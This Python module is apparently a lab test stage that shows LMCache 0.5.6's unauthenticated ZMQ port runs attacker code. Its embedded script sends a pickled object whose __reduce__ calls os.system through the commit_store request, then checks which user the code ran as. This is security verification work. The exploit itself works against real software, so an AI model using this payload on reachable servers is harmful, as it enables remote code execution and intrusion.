"""Why LMCache's port must be closed: its store path runs code that anyone who reaches the port sends.

LMCache 0.5.6's engine-driven transfer module (loaded where there is no CUDA IPC, as on the lab's CPU build)
unpickles the bytes of a COMMIT_STORE request (`server_transfer.py`, `commit_store`), and its ZMQ port has no
authentication. From root on a Spark, which the firewall admits as it admits the node's own vLLM, this module
registers a context as any worker would and commits a payload whose unpickling writes the server process's user
name to a file. The attacker stage shows the same port refused to every source the firewall does not admit.

The payload stores nothing: its key covers no token (start = end), so no object is reserved, and the context and
session it opened are closed again.
"""

from __future__ import annotations

import json
import secrets

from kvtier.cluster import render
from kvtier.lab.stages import StageFailed
from kvtier.nodes.transport import NodeError

# Runs in the Spark's serving Python (LMCache's own client); argv: the server's ZMQ URL, the marker file's path.
SCRIPT = r"""
import json, os, pickle, sys
from lmcache.v1.multiprocess.custom_types import IPCCacheServerKey, RegisterEngineDrivenContextPayload
from lmcache.v1.multiprocess.transport.zmq_impl import create_request_client

url, marker = sys.argv[1], sys.argv[2]


class Payload:
    def __reduce__(self):
        return (eval, ("__import__('os').system('id -un > %s') and [] or []" % marker,))


client = create_request_client(url)
instance, request, said = 900000 + os.getpid() % 100000, "kvtier-attacker-%d" % os.getpid(), {}
try:
    client.register_kv_cache_engine_driven_context(RegisterEngineDrivenContextPayload(
        instance_id=instance, model_name="kvtier-attacker", world_size=1, block_size=16, num_layers=1,
        hidden_dim_size=8, dtype_str="float32", use_mla=False)).result(timeout=30)
    key = IPCCacheServerKey(model_name="kvtier-attacker", world_size=1, worker_id=0, token_ids=(1, 2, 3),
                            start=0, end=0, request_id=request)
    said["commit_store"] = repr(client.commit_store(key, instance, pickle.dumps(Payload())).result(timeout=30))
except Exception as exc:
    said["error"] = repr(exc)
finally:
    for name, close in (
        ("end_session", lambda: client.end_session(request).result(timeout=30)),
        ("unregister", lambda: client.unregister_kv_cache_engine_driven_context(instance).result(timeout=30)),
    ):
        try:
            close()
        except Exception as exc:
            said[name] = repr(exc)
print(json.dumps(said), flush=True)
os._exit(0)  # LMCache's client keeps a polling thread
"""


def run(out, t, spark: str, service_user: str) -> str:
    """The payload sent to `spark`'s LMCache from root on the node: it must run, as `service_user`."""
    node = t.nodes[spark]
    # Where the node's own vLLM reaches its LMCache server.
    connector = render.kv_transfer_config(t.spec, next(n for n in t.spec.nodes if n.name == spark))[
        "kv_connector_extra_config"
    ]
    url = f"{connector['lmcache.mp.host']}:{connector['lmcache.mp.port']}"
    marker = f"/tmp/kvtier-attacker-pickle-{secrets.token_hex(4)}"
    try:
        said = json.loads(node.run(f"{t.spec.install.venv}/bin/python", "-c", SCRIPT, url, marker, timeout=120))
        try:
            ran_as = node.run("cat", marker).strip()
        except NodeError:
            ran_as = ""
    finally:
        node.run("rm", "-f", marker)
    out(f"  pickle payload to {url} from root on {spark}: {said}; it ran as {ran_as or 'nobody (no marker)'}")
    if ran_as != service_user:
        raise StageFailed(f"the pickle payload sent to {url} did not run as {service_user} ({said})")
    return f"the pickle payload ran as {ran_as} where LMCache's port is reachable ({spark}'s own root)"
